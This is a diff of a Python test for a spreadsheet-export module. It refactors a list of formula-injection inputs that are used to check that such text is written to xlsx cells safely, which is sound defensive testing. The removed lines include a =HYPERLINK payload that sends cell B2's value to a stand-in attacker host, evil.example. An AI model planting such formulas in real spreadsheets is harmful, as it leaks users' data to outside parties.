@@ -8,18 +8,13 @@ from pathlib import Path
 import openpyxl
 from openpyxl import Workbook
 
-from pilot_portal.tests.workbooks import formulas_in, text_cells
+from pilot_portal.tests.workbooks import FORMULA_LIKE_TEXTS, formulas_in, text_cells
 from pilot_portal.xlsx_cells import FORMULA_LEADS, cell, put
 
 ROOT = Path(__file__).resolve().parents[2]
-DANGEROUS = [
-    '=HYPERLINK("http://evil.example/?leak="&B2,"click me")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "#N/A",
-]
+# A carriage return reads back as a line break (tested on its own below); "#N/A" is text that openpyxl
+# would otherwise write as an error cell.
+DANGEROUS = [text for text in FORMULA_LIKE_TEXTS if not text.startswith("\r")] + ["#N/A"]
 
 
 def _saved(workbook: Workbook) -> bytes:
